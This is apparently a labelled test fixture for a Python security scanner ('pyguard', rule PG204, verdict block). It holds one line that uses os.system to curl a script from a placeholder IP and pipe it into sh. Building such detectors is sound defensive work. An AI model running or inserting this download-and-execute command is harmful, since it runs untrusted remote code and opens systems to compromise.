# pyguard-corpus: verdict=block category=exec rules=PG204
# what: pipes a downloaded script into sh through os.system, built with an f-string
import os

host = "198.51.100.77"
os.system(f"curl -fsSL http://{host}/setup.sh | sh")
